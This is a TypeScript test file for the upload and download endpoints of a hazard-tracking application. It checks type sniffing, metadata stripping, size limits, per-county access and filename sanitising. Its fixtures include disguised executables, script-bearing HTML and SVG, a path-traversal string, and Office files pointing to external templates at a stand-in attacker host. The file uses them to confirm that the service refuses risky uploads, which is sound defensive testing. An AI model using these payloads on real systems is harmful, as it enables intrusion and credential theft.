import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import ExcelJS from '../../lib/exceljs.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq, sql } from 'drizzle-orm';
import { createTestApp, type TestApp } from '../../testing/test-app.ts';
import { enterprises, files, hazardEvents, hazards, users } from '../../db/schema/index.ts';
import { isAppError } from '../../errors.ts';
import { resolveEvidence, sanitizeFileName, storeUpload, storedPath } from './files.service.ts';
import { fileTypes } from './sniff.ts';
import { GPS_MARKER, jpegClaiming, jpegWithExif, minimalDocx, minimalPdf, pngWithText, storedZip, vp8lData, vp8xData, webpContainer } from './test-fixtures.ts';

const NOT_ALLOWED = '文件类型不允许：仅支持 JPEG/PNG/WebP 图片、PDF、Word（.docx）和 Excel（.xlsx）文件';

let t: TestApp;
const tokens: Record<string, string> = {};
let entAdminId: string;
let entEnterprise: { id: string; regionCode: string; sector: string };

function multipart(buffer: Buffer, filename: string, contentType = 'application/octet-stream', field = 'file') {
  const boundary = '----zhibenFilesBoundary';
  const head = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: ${contentType}\r\n\r\n`);
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  return { payload: Buffer.concat([head, buffer, tail]), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

async function upload(username: string | null, buffer: Buffer, filename: string, contentType?: string, field?: string) {
  const { payload, headers } = multipart(buffer, filename, contentType, field);
  const auth = username ? { authorization: `Bearer ${tokens[username]}` } : {};
  return t.app.inject({ method: 'POST', url: '/api/files', payload, headers: { ...headers, ...auth } });
}

const download = (username: string | null, sha256: string) =>
  t.app.inject({ method: 'GET', url: `/api/files/${sha256}`, headers: username ? { authorization: `Bearer ${tokens[username]}` } : {} });

const sha = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

type Uploaded = { sha256: string; name: string; mime: string; size: number };

/** A hazard of the demo enterprise whose timeline cites the file as evidence (rows written directly). */
async function citeAsEvidence(sha256: string, hazardNo: string): Promise<void> {
  const db = t.database.db;
  const [hazard] = await db
    .insert(hazards)
    .values({
      hazardNo,
      enterpriseId: entEnterprise.id,
      regionCode: entEnterprise.regionCode,
      sector: entEnterprise.sector,
      level: 'general',
      source: 'self_inspection',
      title: '储罐区防火堤破损',
      foundAt: '2026-11-20',
      deadline: '2026-12-20',
      status: 'pending_confirmation',
    })
    .returning({ id: hazards.id });
  if (!hazard) throw new Error('hazard insert failed');
  await db.insert(hazardEvents).values({
    hazardId: hazard.id,
    regionCode: entEnterprise.regionCode,
    seq: 1,
    at: new Date('2026-11-20T02:00:00Z'),
    actorId: entAdminId,
    actorName: '演示企业安全管理员',
    kind: 'reported',
    toStatus: 'pending_confirmation',
    payload: { evidence: [{ sha256, name: 'x.jpg', mime: 'image/jpeg', size: 1, kind: 'before' }] },
    prevHash: '0'.repeat(64),
    hash: 'f'.repeat(64),
  });
}

beforeAll(async () => {
  t = await createTestApp({ enterpriseCount: 60 });
  for (const username of ['guoyang_aqb', 'mengcheng_aqb', 'ent_admin', 'sysadmin', 'auditor', 'bozhou_aqb']) tokens[username] = await t.login(username);
  const [entUser] = await t.database.db.select({ id: users.id, enterpriseId: users.enterpriseId }).from(users).where(eq(users.username, 'ent_admin'));
  if (!entUser?.enterpriseId) throw new Error('demo enterprise user missing');
  entAdminId = entUser.id;
  const [ent] = await t.database.db
    .select({ id: enterprises.id, regionCode: enterprises.regionCode, sectors: enterprises.sectors })
    .from(enterprises)
    .where(eq(enterprises.id, entUser.enterpriseId));
  if (!ent?.sectors[0]) throw new Error('demo enterprise missing');
  entEnterprise = { id: ent.id, regionCode: ent.regionCode, sector: ent.sectors[0] };
});
afterAll(async () => t?.close());

describe('POST /api/files', () => {
  it('stores a JPEG without its EXIF (GPS) segment and records its hash', async () => {
    const input = jpegWithExif();
    const response = await upload('guoyang_aqb', input, '现场照片.jpg', 'image/jpeg');
    expect(response.statusCode).toBe(201);
    const body = response.json<Uploaded>();
    expect(body).toMatchObject({ name: '现场照片.jpg', mime: 'image/jpeg' });
    const stored = await download('guoyang_aqb', body.sha256);
    expect(stored.statusCode).toBe(200);
    expect(stored.rawPayload.toString('latin1')).not.toContain(GPS_MARKER);
    expect(stored.rawPayload.toString('latin1')).not.toContain('Exif');
    expect(sha(stored.rawPayload)).toBe(body.sha256);
    expect(body.size).toBe(stored.rawPayload.length);
    const [row] = await t.database.db.select().from(files).where(eq(files.sha256, body.sha256));
    expect(row).toMatchObject({ mime: 'image/jpeg', size: body.size, originalName: '现场照片.jpg' });
    expect(existsSync(storedPath(t.app.services.config.filesDir, body.sha256))).toBe(true);
  });

  it('accepts PNG (text chunks dropped), PDF, Word and Excel, typed by content', async () => {
    const png = await upload('ent_admin', pngWithText(), 'screen.png');
    expect(png.statusCode).toBe(201);
    expect(png.json<Uploaded>().mime).toBe('image/png');
    expect((await download('ent_admin', png.json<Uploaded>().sha256)).rawPayload.toString('latin1')).not.toContain(GPS_MARKER);

    const pdfBytes = minimalPdf();
    const pdf = await upload('guoyang_aqb', pdfBytes, '整改通知书.pdf', 'application/pdf');
    expect(pdf.statusCode).toBe(201);
    expect(pdf.json<Uploaded>()).toEqual({ sha256: sha(pdfBytes), name: '整改通知书.pdf', mime: 'application/pdf', size: pdfBytes.length });

    const docx = await upload('guoyang_aqb', minimalDocx(), '方案.docx');
    expect(docx.json<Uploaded>().mime).toBe(fileTypes.docx.mime);

    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('台账').addRow(['隐患', '整改']);
    const xlsx = await upload('ent_admin', Buffer.from(await workbook.xlsx.writeBuffer()), '台账.xlsx');
    expect(xlsx.statusCode).toBe(201);
    expect(xlsx.json<Uploaded>().mime).toBe(fileTypes.xlsx.mime);
  });

  it('stores a WebP without its EXIF chunk', async () => {
    const input = webpContainer([
      { id: 'VP8X', data: vp8xData(0x08, 4, 4) },
      { id: 'VP8L', data: vp8lData(4, 4) },
      { id: 'EXIF', data: Buffer.from(GPS_MARKER, 'latin1') },
    ]);
    const response = await upload('ent_admin', input, 'photo.webp', 'image/webp');
    expect(response.statusCode).toBe(201);
    const stored = await download('ent_admin', response.json<Uploaded>().sha256);
    expect(stored.headers['content-type']).toBe('image/webp');
    expect(stored.rawPayload.toString('latin1')).not.toContain(GPS_MARKER);
  });

  it('refuses executables, HTML and SVG disguised as photos', async () => {
    const disguised = [
      Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00This program cannot be run in DOS mode', 'latin1'),
      Buffer.from('<html><body><script>fetch("/api/auth/me")</script></body></html>'),
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ];
    for (const bytes of disguised) {
      const response = await upload('guoyang_aqb', bytes, 'photo.jpg', 'image/jpeg');
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({ code: 'FILE_TYPE_NOT_ALLOWED', message: NOT_ALLOWED, field: 'file' });
    }
  });

  it('types a PDF named .jpg as a PDF and fixes its name', async () => {
    const response = await upload('guoyang_aqb', minimalPdf(), 'photo.jpg', 'image/jpeg');
    expect(response.statusCode).toBe(201);
    expect(response.json<Uploaded>()).toMatchObject({ mime: 'application/pdf', name: 'photo.pdf' });
  });

  it('refuses a zip that is not a Word or Excel document', async () => {
    const response = await upload('guoyang_aqb', storedZip({ 'evil.exe': 'MZ', 'readme.txt': 'hi' }), '资料.docx');
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ code: 'FILE_TYPE_NOT_ALLOWED', message: NOT_ALLOWED });
  });

  it('refuses files over the upload limit and images over the pixel limit', async () => {
    const big = Buffer.concat([minimalPdf(), Buffer.alloc(5 * 1024 * 1024 + 1)]); // test app limit is 5 MiB
    const response = await upload('guoyang_aqb', big, 'big.pdf');
    expect(response.statusCode).toBe(413);
    expect(response.json()).toMatchObject({ code: 'FILE_TOO_LARGE', message: '文件不能超过 5 MB' });

    const huge = await upload('guoyang_aqb', jpegClaiming(8000, 6000), 'huge.jpg');
    expect(huge.statusCode).toBe(400);
    expect(huge.json()).toMatchObject({ code: 'FILE_IMAGE_TOO_MANY_PIXELS' });
  });

  it('applies the 10 MiB image limit after detecting the type', async () => {
    const deps = { db: t.database.db, filesDir: t.app.services.config.filesDir };
    const bigJpeg = Buffer.concat([jpegWithExif(), Buffer.alloc(10 * 1024 * 1024)]);
    const error = await storeUpload(deps, entAdminId, { filename: 'a.jpg', bytes: bigJpeg }).catch((e: unknown) => e);
    expect(isAppError(error) && error.code === 'FILE_TOO_LARGE' && error.message).toBe('图片不能超过 10 MB');
  });

  it('refuses an empty upload and a wrong field name', async () => {
    expect((await upload('guoyang_aqb', Buffer.alloc(0), 'a.pdf')).json()).toMatchObject({ code: 'VALIDATION', field: 'file' });
    expect((await upload('guoyang_aqb', minimalPdf(), 'a.pdf', 'application/pdf', 'attachment')).json()).toMatchObject({ code: 'VALIDATION', field: 'file' });
  });

  it('is closed to anonymous callers and to platform roles', async () => {
    expect((await upload(null, minimalPdf(), 'a.pdf')).statusCode).toBe(401);
    expect((await upload('sysadmin', minimalPdf(), 'a.pdf')).statusCode).toBe(404);
    expect((await upload('auditor', minimalPdf(), 'a.pdf')).statusCode).toBe(404);
  });

  it('stores identical content once', async () => {
    const first = (await upload('guoyang_aqb', pngWithText(4, 4), 'a.png')).json<Uploaded>();
    const second = (await upload('guoyang_aqb', pngWithText(4, 4), 'b.png')).json<Uploaded>();
    expect(second.sha256).toBe(first.sha256);
    expect(second.name).toBe('b.png');
    expect(await t.database.db.select().from(files).where(eq(files.sha256, first.sha256))).toHaveLength(1);
  });
});

describe('GET /api/files/:sha256', () => {
  it('serves the uploader with safe headers', async () => {
    const uploaded = (await upload('guoyang_aqb', minimalPdf('headers'), '整改 报告(终).pdf')).json<Uploaded>();
    const response = await download('guoyang_aqb', uploaded.sha256);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/pdf');
    expect(response.headers['content-disposition']).toBe(`inline; filename*=UTF-8''${encodeURIComponent('整改 报告')}%28${encodeURIComponent('终')}%29.pdf`);
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['cache-control']).toBe('no-store');
  });

  it('answers 404 to users of another county, platform roles and unknown hashes; 401 without a session', async () => {
    const uploaded = (await upload('guoyang_aqb', jpegWithExif({ width: 24 }), 'p.jpg')).json<Uploaded>();
    expect((await download('mengcheng_aqb', uploaded.sha256)).statusCode).toBe(404);
    expect((await download('bozhou_aqb', uploaded.sha256)).statusCode).toBe(404); // not evidence of anything yet
    expect((await download('sysadmin', uploaded.sha256)).statusCode).toBe(404);
    expect((await download(null, uploaded.sha256)).statusCode).toBe(401);
    expect((await download('guoyang_aqb', 'a'.repeat(64))).statusCode).toBe(404);
    expect((await download('guoyang_aqb', '..%2F..%2Fetc%2Fpasswd')).statusCode).toBe(400);
  });

  it('serves evidence of a hazard to users who see that hazard, and only to them', async () => {
    const uploaded = (await upload('ent_admin', jpegWithExif({ width: 48 }), '防火堤.jpg')).json<Uploaded>();
    expect((await download('guoyang_aqb', uploaded.sha256)).statusCode).toBe(404);
    await citeAsEvidence(uploaded.sha256, 'TEST-FILES-0001');
    const countyOfEnterprise = entEnterprise.regionCode.startsWith('341621') ? 'guoyang_aqb' : 'mengcheng_aqb';
    const otherCounty = countyOfEnterprise === 'guoyang_aqb' ? 'mengcheng_aqb' : 'guoyang_aqb';
    expect((await download(countyOfEnterprise, uploaded.sha256)).statusCode).toBe(200);
    expect((await download('bozhou_aqb', uploaded.sha256)).statusCode).toBe(200);
    expect((await download(otherCounty, uploaded.sha256)).statusCode).toBe(404);
    expect((await download('sysadmin', uploaded.sha256)).statusCode).toBe(404);
    // Another person's upload: a neutral name (never the uploader's), and the download is audited.
    const byCity = await download('bozhou_aqb', uploaded.sha256);
    expect(byCity.headers['content-disposition']).toBe(`inline; filename*=UTF-8''${encodeURIComponent('证据材料-')}${uploaded.sha256.slice(0, 8)}.jpg`);
    const audited = await t.rows<{ detail: { sha256: string } }>(sql`SELECT detail FROM audit_log WHERE action = 'file.download' AND actor_name LIKE '%bozhou_aqb%'`);
    expect(audited.map((r) => r.detail.sha256)).toContain(uploaded.sha256);
  });

  it('keeps the file name per upload: a later uploader of the same bytes never sees the first one’s name (D18)', async () => {
    const bytes = jpegWithExif({ width: 40 });
    const first = (await upload('ent_admin', bytes, '蒙城私有.jpg')).json<Uploaded>();
    const second = (await upload('guoyang_aqb', bytes, 'attacker-chosen.jpg')).json<Uploaded>();
    expect(second.sha256).toBe(first.sha256);
    expect((await download('guoyang_aqb', first.sha256)).headers['content-disposition']).toBe(`inline; filename*=UTF-8''attacker-chosen.jpg`);
    expect((await download('ent_admin', first.sha256)).headers['content-disposition']).toBe(`inline; filename*=UTF-8''${encodeURIComponent('蒙城私有')}.jpg`);
  });
});

describe('risky Office and PDF content is refused as evidence (D19)', () => {
  const docx = (extra: Record<string, string>, types = '<Types/>') =>
    storedZip({ '[Content_Types].xml': types, '_rels/.rels': '<Relationships/>', 'word/document.xml': '<w:document/>', ...extra });
  it.each([
    ['VBA under another name, by content type', docx({ 'word/macros.bin': 'x' }, '<Types><Override PartName="/word/macros.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'), '宏'],
    ['an external template', docx({ 'word/_rels/settings.xml.rels': '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>' }), '外部'],
    // The same template written as XML allows it: single quotes, spaces around =, an entity, a prefix.
    ["an external template in single quotes", docx({ 'word/_rels/settings.xml.rels': "<Relationships><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='http://attacker.invalid/t.dotm' TargetMode='External'/></Relationships>" }), '外部'],
    ['an external template with spaces and an entity', docx({ 'word/_rels/settings.xml.rels': '<Relationships><Relationship Id="r1" Type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode = "Exte&#114;nal" /></Relationships>' }), '外部'],
    ['an external template under a prefix', docx({ 'word/_rels/settings.xml.rels': '<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></r:Relationships>' }), '外部'],
    // An image fetched from outside when the document opens (a UNC path would hand out the reader's NTLM hash).
    ['an external image', docx({ 'word/_rels/document.xml.rels': '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://attacker.invalid/share/a.png" TargetMode="External"/></Relationships>' }), '外部'],
    ['an external link in a workbook', storedZip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>', 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }), '外部链接'],
    ['a PDF with a JavaScript OpenAction', Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%%EOF\n'), 'PDF'],
  ])('%s', async (_, bytes, reason) => {
    const response = await upload('guoyang_aqb', bytes, 'evidence.bin');
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ code: 'FILE_RISKY_CONTENT', field: 'file' });
    expect(response.json().message).toContain(reason);
  });

  it('still accepts plain documents, and external hyperlinks in them', async () => {
    const withLink = docx({ 'word/_rels/document.xml.rels': '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.mem.gov.cn/" TargetMode="External"/></Relationships>' });
    expect((await upload('guoyang_aqb', withLink, '方案.docx')).statusCode).toBe(201);
    expect((await upload('guoyang_aqb', minimalPdf('plain'), '通知.pdf')).statusCode).toBe(201);
  });
});

describe('resolveEvidence', () => {
  it('fills mime and size from the stored file and refuses unknown hashes', async () => {
    const uploaded = (await upload('ent_admin', minimalDocx('resolve'), '整改方案.docx')).json<Uploaded>();
    const resolved = await resolveEvidence(t.database.db, entAdminId, [{ sha256: uploaded.sha256, kind: 'document' }, { sha256: uploaded.sha256, name: '方案 v2.docx', kind: 'after' }]);
    expect(resolved).toEqual([
      { sha256: uploaded.sha256, name: '整改方案.docx', mime: fileTypes.docx.mime, size: uploaded.size, kind: 'document' },
      { sha256: uploaded.sha256, name: '方案 v2.docx', mime: fileTypes.docx.mime, size: uploaded.size, kind: 'after' },
    ]);
    const error = await resolveEvidence(t.database.db, entAdminId, [{ sha256: 'b'.repeat(64), name: '照片.jpg', kind: 'before' }]).catch((e: unknown) => e);
    expect(isAppError(error) && { code: error.code, field: error.field, message: error.message }).toEqual({
      code: 'VALIDATION',
      field: 'evidence',
      message: '附件不存在或未上传：照片.jpg',
    });
  });
});

describe('sanitizeFileName', () => {
  it('keeps a readable name without paths, control or bidi characters, with the right extension', () => {
    expect(sanitizeFileName('C:\\Users\\张三\\Desktop\\现场.JPG', fileTypes.jpeg)).toBe('现场.jpg');
    expect(sanitizeFileName('../../etc/passwd', fileTypes.pdf)).toBe('passwd.pdf');
    expect(sanitizeFileName('invoice\u202Egpj.exe', fileTypes.pdf)).toBe('invoicegpj.pdf');
    expect(sanitizeFileName('a\r\nb\u0000c.png', fileTypes.png)).toBe('abc.png');
    expect(sanitizeFileName('', fileTypes.docx)).toBe('附件.docx');
    expect(sanitizeFileName('.hidden', fileTypes.pdf)).toBe('hidden.pdf');
    const long = sanitizeFileName(`${'很长的文件名'.repeat(40)}.xlsx`, fileTypes.xlsx);
    expect(Array.from(long)).toHaveLength(120);
    expect(long.endsWith('.xlsx')).toBe(true);
  });
});
